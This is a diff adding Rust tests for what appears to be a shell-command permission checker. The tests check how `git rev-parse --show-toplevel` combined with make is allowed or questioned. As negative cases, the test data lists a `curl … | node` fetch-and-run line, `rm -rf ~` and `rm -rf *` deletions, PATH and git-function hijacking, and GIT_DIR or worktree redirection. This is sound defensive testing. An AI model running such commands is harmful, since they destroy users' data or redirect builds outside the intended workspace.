@@ -161,3 +161,62 @@ fn a_file_that_is_looked_at_is_not_a_terminal() {
         ["node", "node -i \"$f\"", "node $f", "node src/$f", "curl http://x.example | node \"$f\""];
     assert_all(decisions(&commands, |_, _| {}), |decision| decision == Decision::Deny);
 }
+
+/// A repository in the workspace, as git makes one.
+fn repository(workspace: &Path, settings: &str) {
+    for directory in [".git/objects", ".git/refs"] {
+        fs::create_dir_all(workspace.join(directory)).unwrap();
+    }
+    fs::write(workspace.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
+    fs::write(workspace.join(".git/config"), settings).unwrap();
+    fs::write(workspace.join("Makefile"), "all:\n").unwrap();
+}
+
+const TOPS: [&str; 2] =
+    ["cd \"$(git rev-parse --show-toplevel)\" && make", "make -C \"$(git rev-parse --show-toplevel)\""];
+
+#[test]
+fn a_repository_begins_where_the_shell_stands_if_it_lies_there() {
+    let plain = |workspace: &Path, _: &Path| repository(workspace, "[core]\n\tbare = false\n");
+    assert_all(decisions(&TOPS, plain), |decision| decision == Decision::Allow);
+}
+
+#[test]
+fn a_repository_that_may_begin_elsewhere_is_asked_about() {
+    let asked = |decision| decision != Decision::Allow;
+    // None, settings that move its files or name others, and one that is not whole.
+    assert_all(decisions(&TOPS, |_, _| {}), asked);
+    for settings in
+        ["[core]\n\tWorkTree = /etc\n", "[include]\n\tpath = x\n", "[extensions]\n\tworktreeConfig\n"]
+    {
+        assert_all(decisions(&TOPS, |workspace, _| repository(workspace, settings)), asked);
+    }
+    let broken = |workspace: &Path, _: &Path| {
+        repository(workspace, "");
+        fs::remove_file(workspace.join(".git/HEAD")).unwrap();
+    };
+    assert_all(decisions(&TOPS, broken), asked);
+    let file = |workspace: &Path, _: &Path| fs::write(workspace.join(".git"), "gitdir: /tmp/x\n").unwrap();
+    assert_all(decisions(&TOPS, file), asked);
+    let moved = [
+        // What is not one word may be none, and `cd` goes home then.
+        "cd $(git rev-parse --show-toplevel) && make",
+        "cd \"$(git rev-parse --show-toplevel)/x\" && make",
+        "export GIT_DIR=/tmp/x; cd \"$(git rev-parse --show-toplevel)\" && make",
+        "GIT_WORK_TREE=/tmp/x; cd \"$(git rev-parse --show-toplevel)\" && make",
+        "cd \"$(GIT_DIR=/tmp/x git rev-parse --show-toplevel)\" && make",
+        "cd \"$(git -C /tmp/x rev-parse --show-toplevel)\" && make",
+        "cd one; cd \"$(git rev-parse --show-toplevel)\" && make -C ../outside",
+        "git config core.worktree /tmp/x; cd \"$(git rev-parse --show-toplevel)\" && make",
+        "cp x .git/config; cd \"$(git rev-parse --show-toplevel)\" && make",
+        "make; cd \"$(git rev-parse --show-toplevel)\" && make",
+        "git() { echo /tmp/x; }; cd \"$(git rev-parse --show-toplevel)\" && make",
+        "PATH=/tmp/x; cd \"$(git rev-parse --show-toplevel)\" && make",
+        "[ \"$(git rev-parse --show-toplevel)\" = x ] || rm -rf ~",
+        "rm -rf \"$(git rev-parse --show-toplevel)\"",
+        "R=$(git rev-parse --show-toplevel); rm -rf \"$R/build\"",
+        "cd \"$(git rev-parse --show-toplevel)\" && rm -rf *",
+    ];
+    let whole = |workspace: &Path, _: &Path| repository(workspace, "[core]\n\tbare = false\n");
+    assert_all(decisions(&moved, whole), asked);
+}
